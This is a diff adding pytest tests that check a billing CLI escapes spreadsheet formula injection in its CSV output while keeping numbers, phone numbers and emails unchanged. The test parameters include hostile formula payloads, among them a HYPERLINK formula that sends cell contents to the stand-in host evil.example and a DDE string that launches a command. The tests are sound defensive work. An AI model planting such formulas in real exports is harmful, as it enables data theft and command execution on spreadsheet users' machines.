@@ -16,6 +16,7 @@ from pathlib import Path
 import pytest
 
 from stripe_billing_cli.cli import slow_notice
+from stripe_billing_cli.cli.csv_output import write_csv
 from stripe_billing_cli.cli.output import Printer
 from stripe_billing_cli.cli.table import Column, Table, cells
 from stripe_billing_cli.listener.listener import Listener
@@ -163,6 +164,49 @@ def test_a_list_comes_as_csv(billing: Billing, shop: Shop) -> None:
     assert [row["name"] for row in rows] == ["two\nlines\\x1b[2J", 'Ada "the first", Countess']
     assert list(rows[0]) == list(first)
     assert json.loads(rows[1]["metadata"]) == {"plan": "gold"}
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1)',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        " =1+1",
+        "\N{FULLWIDTH EQUALS SIGN}1+1",
+        "\N{EN DASH}2+3",
+    ],
+)
+def test_a_name_is_no_formula_in_csv(billing: Billing, shop: Shop, formula: str) -> None:
+    shop.customer(name=formula)
+
+    [row] = csv.DictReader(io.StringIO(billing.ok("customer", "list", "--local", "--output", "csv").out, newline=""))
+
+    assert row["name"] == f"'{formula}"
+    assert billing.ok("customer", "list", "--local", "--output", "json").json["name"] == formula
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (-1500, "-1500"),
+        ("-1500.25", "-1500.25"),
+        ("+14155550100", "+14155550100"),
+        ("ada+shop@example.com", "ada+shop@example.com"),
+        ({"plan": "=1+1"}, '{"plan": "=1+1"}'),
+        ("", ""),
+        (None, ""),
+    ],
+)
+def test_numbers_and_other_texts_are_as_they_are_in_csv(
+    value: object, cell: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert write_csv([{"value": value, "next": 1}]) == 1
+
+    [row] = csv.DictReader(io.StringIO(capsys.readouterr().out, newline=""))
+    assert row["value"] == cell
 
 
 def test_csv_may_be_said_wherever_the_output_is(billing: Billing, shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
